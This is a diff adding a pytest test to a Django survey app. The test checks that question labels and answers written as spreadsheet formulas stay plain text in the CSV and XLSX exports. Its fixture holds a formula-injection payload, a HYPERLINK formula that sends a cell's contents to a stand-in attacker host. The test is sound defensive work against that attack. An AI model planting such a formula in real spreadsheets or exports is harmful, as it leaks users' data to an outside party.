@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import datetime
+import io
 
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from intake.roles import Role
 from surveys.models import FormPage
+from tests.factories import form_page, question
 from tests.surveys.interview_fixtures import (
     english,
     translate,
@@ -123,6 +126,24 @@ def test_the_exports_hold_exactly_the_readers_rows_with_clear_headings(world, re
     assert rows[0] == headings
     assert [row[4:] for row in rows[1:]] == [["Amina", "Travail"], ["Bilal", "Langue"]]
     assert isinstance(rows[1][0], datetime.datetime)
+
+
+def test_a_label_written_as_a_formula_stays_text_in_both_exports(world):
+    trap = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    page = form_page(world.programme["a"], [question("singleline", trap, "name")])
+    coach = english(world.client("a", Role.COACH))
+    send(coach, page, name="=1+2")
+    index = reverse("surveys_submissions:index", args=(page.pk,))
+
+    rows = csv_rows(coach.get(index, {"export": "csv"}))
+    assert rows[0][4] == f"'{trap} [name]"
+    assert rows[1][4] == "'=1+2"
+
+    response = coach.get(index, {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert sheet.cell(1, 5).data_type == "s"
+    assert sheet.cell(1, 5).value == f"{trap} [name]"
+    assert sheet.cell(2, 5).data_type == "s"
 
 
 def test_the_exports_respect_the_filters(world, interview):
